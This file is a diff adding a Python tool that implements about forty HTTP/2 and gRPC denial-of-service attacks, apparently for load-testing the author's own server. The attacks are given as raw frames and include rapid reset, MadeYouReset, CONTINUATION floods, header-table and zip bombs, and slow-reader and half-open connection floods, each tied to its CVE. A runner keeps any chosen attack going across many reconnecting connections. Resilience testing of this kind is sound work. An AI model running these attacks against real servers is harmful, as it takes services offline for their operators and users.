@@ -1,0 +1,394 @@
+"""Attacks on a server of gRPC, each as the bytes of one connection, and a process that sustains one over many.
+
+Usage: python -m attacks.attacker ADDRESS ATTACK CONNECTIONS SECONDS
+
+A connection that the server closes is opened again at once. Prints how many bytes were sent, and over how many
+connections.
+"""
+
+from __future__ import annotations
+
+import gzip
+import itertools
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Final
+
+from support.http2 import (
+    END_HEADERS,
+    END_STREAM,
+    HEALTH_PATH,
+    PADDED,
+    PREFACE,
+    Kind,
+    Setting,
+    block,
+    frame,
+    integer,
+    literal,
+    message,
+    request_fields,
+    reset,
+    settings,
+    window_update,
+)
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator, Mapping
+    from typing import TypeAlias
+
+    Fields: TypeAlias = list[tuple[str | bytes, str | bytes]]
+
+REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+WATCH: Final = "/grpc.health.v1.Health/Watch"
+UNKNOWN: Final = "/allocation.v1.ShipmentAllocationService/NoSuchMethod"
+LARGEST_STREAM: Final = 2**31 - 1
+# What a server lets each stream send before it says more, which is less than any engine here does.
+WINDOW: Final = 65_535
+# What one connection hands to the system at once, and how many bytes all of them send each second.
+CHUNK: Final = 65_536
+RATE: Final = 10_000_000
+# Streams that a connection keeps open where an attack is about those.
+MANY: Final = 1_000
+HEADERS: Final = block(request_fields())
+HEALTH: Final = block(request_fields(HEALTH_PATH))
+GZIP: Final[Fields] = [("grpc-encoding", "gzip")]
+# Asks for the file that declares the health service, in reflection's own field.
+QUESTION: Final = message(b"\x22\x15grpc.health.v1.Health")
+# A message of 256 KiB, less what stands before it, that compresses to some 300 bytes.
+BOMB: Final = message(gzip.compress(bytes(262_000)), flag=1)
+
+
+def streams(first: int = 1) -> Iterator[int]:
+    """Yields the numbers of a client's streams, as many as there are."""
+    return iter(range(first, LARGEST_STREAM, 2))
+
+
+def headers(stream: int, fields: bytes = HEADERS, *, end: bool = False) -> bytes:
+    """Returns a HEADERS frame."""
+    return frame(Kind.HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, fields)
+
+
+def data(stream: int, payload: bytes, *, end: bool = False) -> bytes:
+    """Returns DATA frames."""
+    parts = [payload[at : at + 16_384] for at in range(0, len(payload), 16_384)] or [b""]
+    return b"".join(frame(Kind.DATA, END_STREAM if end and part is parts[-1] else 0, stream, part) for part in parts)
+
+
+def forever(one: bytes) -> Iterator[bytes]:
+    """Yields the same bytes without an end, in parts of a fair size."""
+    return itertools.repeat(one * max(1, CHUNK // 2 // len(one)))
+
+
+def on_each_stream(make: Callable[[int], bytes], count: int | None = None) -> Iterator[bytes]:
+    """Yields what is sent on one stream after the other, of as many as there are or of a count."""
+    yield from map(make, streams() if count is None else itertools.islice(streams(), count))
+
+
+def opened(path: str, count: int, more: Fields | None = None) -> bytes:
+    """Returns the HEADERS of so many calls."""
+    fields = block([*request_fields(path), *(more or [])])
+    return b"".join(headers(stream, fields) for stream in itertools.islice(streams(), count))
+
+
+def unread(path: str, one: bytes, count: int, more: Fields | None = None) -> Iterator[bytes]:
+    """Yields messages, as many as the windows of so many calls let pass."""
+    yield opened(path, count, more)
+    each = data(1, one * (WINDOW // len(one)))
+    for stream in itertools.islice(streams(), count):
+        yield _moved(each, stream)
+
+
+def _moved(frames: bytes, stream: int) -> bytes:
+    """Returns frames of stream 1 as those of another."""
+    return frames.replace(struct.pack(">BBL", Kind.DATA, 0, 1), struct.pack(">BBL", Kind.DATA, 0, stream))
+
+
+def answers_not_taken() -> Iterator[bytes]:
+    """Yields questions whose answers nobody lets out."""
+    fields = block(request_fields(REFLECTION))
+    yield settings({Setting.INITIAL_WINDOW_SIZE: 0})
+    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, QUESTION))
+
+
+def window_games() -> Iterator[bytes]:
+    """Yields answers let out a byte at a time."""
+    fields = block(request_fields(REFLECTION))
+    yield settings({Setting.INITIAL_WINDOW_SIZE: 0})
+    for stream in streams():
+        yield headers(stream, fields) + data(stream, QUESTION, end=True)
+        yield window_update(stream, 1) * 1_000
+
+
+def window_resized() -> Iterator[bytes]:
+    """Yields changes of the windows of many calls at once."""
+    yield opened(WATCH, MANY)
+    yield from forever(settings({Setting.INITIAL_WINDOW_SIZE: 0}) + settings({Setting.INITIAL_WINDOW_SIZE: WINDOW}))
+
+
+def continued(part: bytes) -> Iterator[bytes]:
+    """Yields headers that never end."""
+    yield frame(Kind.HEADERS, 0, 1, HEADERS)
+    yield from forever(frame(Kind.CONTINUATION, 0, 1, part))
+
+
+def half_requests() -> Iterator[bytes]:
+    """Yields requests each of which lacks its last byte."""
+    part = data(1, message(b"", length=60_001) + bytes(60_000))
+    yield from on_each_stream(lambda stream: headers(stream) + _moved(part, stream))
+
+
+def rapid_reset(fields: bytes, body: bytes) -> Iterator[bytes]:
+    """Yields calls that are taken back at once."""
+    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, body, end=True) + reset(stream))
+
+
+def made_to_reset(offence: Callable[[int], bytes]) -> Iterator[bytes]:
+    """Yields calls that the server has to reset by itself."""
+    call = message(b"")
+    return on_each_stream(lambda stream: headers(stream, HEALTH) + data(stream, call, end=True) + offence(stream))
+
+
+def table_thrash() -> Iterator[bytes]:
+    """Yields calls whose headers push each other out of the table."""
+    fields = HEALTH + b"\x40\x01a\x01b" * 3_000
+    return on_each_stream(lambda stream: headers(stream, fields, end=True))
+
+
+def table_bomb() -> Iterator[bytes]:
+    """Yields calls whose headers stand for much more, from an entry of the table."""
+    stored = b"\x40" + integer(1, 7) + b"x" + integer(3_900, 7) + b"y" * 3_900
+    bomb = HEALTH + integer(62, 7, 0x80) * 12_000
+    yield headers(1, HEALTH + stored, end=True)
+    for stream in streams(3):
+        yield headers(stream, bomb, end=True)
+
+
+def trailers() -> Iterator[bytes]:
+    """Yields calls that end with large trailers."""
+    large = literal(b"x-large", b"x" * 15_000)
+    return on_each_stream(
+        lambda stream: (
+            headers(stream, HEALTH)
+            + frame(Kind.HEADERS, END_STREAM, stream, large)
+            + frame(Kind.CONTINUATION, END_HEADERS, stream, large)
+        )
+    )
+
+
+def zip_bombs() -> Iterator[bytes]:
+    """Yields requests that are small only as long as they are packed."""
+    fields = block([*request_fields(), *GZIP])
+    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, BOMB, end=True))
+
+
+@dataclass(frozen=True)
+class Attack:
+    """An attack.
+
+    Attributes:
+        make: Returns what one connection sends, after the preface if there is one.
+        of: What it is known by: the CVE, or a name in plain words.
+        reads: Whether the attacker reads what the server sends.
+        has_preface: Whether it begins as HTTP/2 does.
+        lasts: Whether a connection stands until the server closes it; else it is closed when all is sent.
+        needs_tls: Whether it is about the port with TLS.
+    """
+
+    make: Callable[[], Iterator[bytes]]
+    of: str
+    reads: bool = True
+    has_preface: bool = True
+    lasts: bool = True
+    needs_tls: bool = False
+
+
+ATTACKS: Final[Mapping[str, Attack]] = {
+    "compressed messages that nobody reads": Attack(lambda: unread(WATCH, BOMB, 16, GZIP), "decompression bombs"),
+    "compressed questions whose answers are not taken": Attack(
+        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, BOMB, 16, GZIP)),
+        "decompression bombs",
+    ),
+    "zip bombs": Attack(zip_bombs, "decompression bombs"),
+    "empty messages that nobody reads": Attack(lambda: unread(WATCH, message(b""), 100), "unread messages"),
+    "empty questions whose answers are not taken": Attack(
+        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, message(b""), 100)),
+        "unread messages",
+    ),
+    "window updates of the connection": Attack(lambda: forever(window_update(0, 1)), "WINDOW_UPDATE flood"),
+    "window updates of a call": Attack(
+        lambda: itertools.chain([headers(1)], forever(window_update(1, 1))), "WINDOW_UPDATE flood"
+    ),
+    "DATA of one byte": Attack(
+        lambda: itertools.chain([headers(1), data(1, message(b"", length=250_000))], forever(data(1, b"\0"))),
+        "CVE-2019-9511 and kin: tiny frames",
+    ),
+    "empty DATA": Attack(lambda: itertools.chain([headers(1)], forever(data(1, b""))), "CVE-2019-9518"),
+    "padded DATA": Attack(
+        lambda: itertools.chain([headers(1)], forever(frame(Kind.DATA, PADDED, 1, b"\x05" + bytes(5)))),
+        "CVE-2019-9518",
+    ),
+    "rapid reset": Attack(lambda: rapid_reset(HEADERS, message(b"")), "CVE-2023-44487"),
+    "rapid reset of probes": Attack(lambda: rapid_reset(HEALTH, message(b"")), "CVE-2023-44487"),
+    "MadeYouReset by an increment of 0": Attack(
+        lambda: made_to_reset(lambda stream: window_update(stream, 0)), "CVE-2025-8671"
+    ),
+    "MadeYouReset by DATA after the end": Attack(
+        lambda: made_to_reset(lambda stream: data(stream, b"x")), "CVE-2025-8671"
+    ),
+    "MadeYouReset by a window that overflows": Attack(
+        lambda: made_to_reset(lambda stream: window_update(stream, LARGEST_STREAM)), "CVE-2025-8671"
+    ),
+    "MadeYouReset by a dependency on itself": Attack(
+        lambda: made_to_reset(lambda stream: frame(Kind.PRIORITY, 0, stream, struct.pack(">LB", stream, 1))),
+        "CVE-2025-8671",
+    ),
+    "CONTINUATION without an end": Attack(
+        lambda: continued(literal(b"x-a", bytes(1_000))), "CVE-2024-24549, CVE-2023-45288, CVE-2024-27316"
+    ),
+    "empty CONTINUATION": Attack(lambda: continued(b""), "CVE-2024-24549 and kin"),
+    "PING": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512"),
+    "PING, answers not read": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512", reads=False),
+    "SETTINGS": Attack(lambda: forever(settings()), "CVE-2019-9515"),
+    "large SETTINGS": Attack(
+        lambda: forever(frame(Kind.SETTINGS, 0, 0, bytes.fromhex("000400010000") * 2_700)), "CVE-2019-9515"
+    ),
+    "SETTINGS that resize many windows": Attack(window_resized, "CVE-2019-9515"),
+    "PRIORITY": Attack(lambda: forever(frame(Kind.PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1]))), "CVE-2019-9513"),
+    "GOAWAY": Attack(lambda: forever(frame(Kind.GOAWAY, 0, 0, bytes(8))), "control frames"),
+    "unknown frames": Attack(lambda: forever(frame(0xBB, 0, 0, b"")), "control frames"),
+    "RST_STREAM of a call that is over": Attack(
+        lambda: itertools.chain([headers(1) + reset(1)], forever(reset(1))), "CVE-2019-9514"
+    ),
+    "header table bomb": Attack(table_bomb, "CVE-2016-6581"),
+    "header table thrash": Attack(table_thrash, "CVE-2016-6581 and kin"),
+    "large trailers": Attack(trailers, "trailers"),
+    "calls of no method": Attack(
+        lambda: on_each_stream(lambda stream: headers(stream, block(request_fields(UNKNOWN)), end=True)),
+        "useless calls",
+    ),
+    "calls without an end": Attack(lambda: on_each_stream(headers, 10_000), "half-open calls"),
+    "watches without an end": Attack(lambda: unread(WATCH, message(b""), 2_000), "half-open calls"),
+    "requests without their last byte": Attack(half_requests, "slow writers"),
+    "answers that are not taken": Attack(answers_not_taken, "CVE-2019-9517: slow readers"),
+    "answers let out a byte at a time": Attack(window_games, "CVE-2019-9511"),
+    "answers that are not read": Attack(
+        lambda: on_each_stream(
+            lambda stream: headers(stream, block(request_fields(REFLECTION))) + data(stream, QUESTION, end=True)
+        ),
+        "CVE-2019-9517: slow readers",
+        reads=False,
+    ),
+    "connections that say nothing": Attack(lambda: iter([b""]), "half-open connections", has_preface=False),
+    "connections opened and closed": Attack(lambda: iter([b""]), "connection churn", lasts=False),
+    "TLS that is not finished": Attack(
+        lambda: iter([client_hello()[:100]]), "half-open TLS", has_preface=False, needs_tls=True
+    ),
+    "TLS handshakes": Attack(
+        lambda: iter([client_hello()]), "TLS handshakes", has_preface=False, lasts=False, needs_tls=True
+    ),
+}
+
+
+def client_hello() -> bytes:
+    """Returns what a TLS client says first."""
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    context = ssl.create_default_context()
+    context.set_alpn_protocols(["h2"])
+    try:
+        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
+    except ssl.SSLWantReadError:
+        return outgoing.read()
+    raise AssertionError("a handshake cannot end before it has begun")
+
+
+class _Attacker:
+    """One connection, opened again whenever it is closed."""
+
+    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
+        self._attack = attack
+        self._address = address
+        self.opened = 0
+        self.sent = 0
+        self._open()
+
+    def _open(self) -> None:
+        self.socket = socket.create_connection(self._address, timeout=10.0)
+        self.socket.setblocking(False)
+        self.opened += 1
+        self.is_done = False
+        greeting = PREFACE + settings() if self._attack.has_preface else b""
+        self._parts = itertools.chain([greeting], self._attack.make())
+        self._buffer = memoryview(b"")
+
+    def step(self) -> bool:
+        """Sends what goes at once, and reads what there is. Returns whether the connection had to be opened again."""
+        try:
+            if self._attack.reads:
+                self._read()
+            if not self._buffer and not self.is_done:
+                self._fill()
+            if self._buffer:
+                count = self.socket.send(self._buffer)
+                self.sent += count
+                self._buffer = self._buffer[count:]
+            elif self.is_done and not self._attack.lasts:
+                return self._again()
+        except BlockingIOError:
+            return False
+        except OSError:
+            return self._again()
+        return False
+
+    def _again(self) -> bool:
+        self.socket.close()
+        self._open()
+        return True
+
+    def _fill(self) -> None:
+        found = bytearray()
+        while len(found) < CHUNK:
+            part = next(self._parts, None)
+            if part is None:
+                self.is_done = True
+                break
+            found += part
+        self._buffer = memoryview(bytes(found))
+
+    def _read(self) -> None:
+        try:
+            while received := self.socket.recv(CHUNK):
+                del received
+        except BlockingIOError:
+            return
+        raise ConnectionResetError
+
+
+def sustain(address: str, name: str, connections: int, seconds: float) -> dict[str, int]:
+    """Sustains an attack. Returns how many bytes were sent, and over how many connections."""
+    attack = ATTACKS[name]
+    host, _, port = address.rpartition(":")
+    attackers = [_Attacker(attack, (host, int(port))) for _ in range(connections)]
+    begun = time.monotonic()
+    end = begun + seconds
+    while (now := time.monotonic()) < end:
+        allowed = (now - begun) * RATE
+        before = sum(one.sent for one in attackers), sum(one.opened for one in attackers)
+        if before[0] <= allowed:
+            for one in attackers:
+                one.step()
+        after = sum(one.sent for one in attackers), sum(one.opened for one in attackers)
+        if after == before:
+            time.sleep(0.002)  # the system, or the rate, takes no more for now
+    for one in attackers:
+        one.socket.close()
+    return {"sent": sum(one.sent for one in attackers), "connections": sum(one.opened for one in attackers)}
+
+
+if __name__ == "__main__":
+    print(json.dumps(sustain(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))))  # noqa: T201
